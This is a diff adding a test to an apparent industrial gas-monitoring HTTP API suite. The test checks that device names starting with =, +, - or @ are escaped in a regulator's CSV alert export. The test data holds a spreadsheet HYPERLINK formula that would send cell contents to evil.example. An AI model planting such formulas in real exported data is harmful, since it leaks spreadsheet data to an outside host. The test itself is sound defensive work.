@@ -152,6 +152,21 @@ describe('HTTP API', () => {
     expect(r.text).toContain('测试化工有限公司');
   });
 
+  it("plants no formula in a regulator's CSV: a cell an enterprise wrote that starts with = + - @ goes out as text", async () => {
+    const chem = apiClient(app, 'token-chem');
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
+    const created = await chem.post(`/api/enterprises/${CHEM}/devices`, { id: 'gas-csv', name: '探测器', templates: ['hazchem'], points: [{ metric: 'gas_lel', name: formula }] });
+    expect(created.status).toBe(201);
+    const dev = await connectDevice(app, CHEM, 'gas-csv', created.json.secret);
+    await dev.telemetry({ values: { gas_lel: 45 } });
+    await app.settled();
+    await dev.end();
+    const csv = (await apiClient(app, 'token-regulator-a').get('/api/alerts/export.csv')).text;
+    const row = csv.split('\n').find((l) => l.includes('gas-csv'))!;
+    expect(row).toContain(`"'${formula.replaceAll('"', '""')}"`);
+    expect(row).not.toMatch(/,"?=/);
+  });
+
   it('lets an enterprise register a device, shows its secret once, and lets it connect', async () => {
     const chem = apiClient(app, 'token-chem');
     const body = { id: 'gas-9', name: '新增可燃气体探测器', templates: ['hazchem'], points: [{ metric: 'gas_lel' }] };
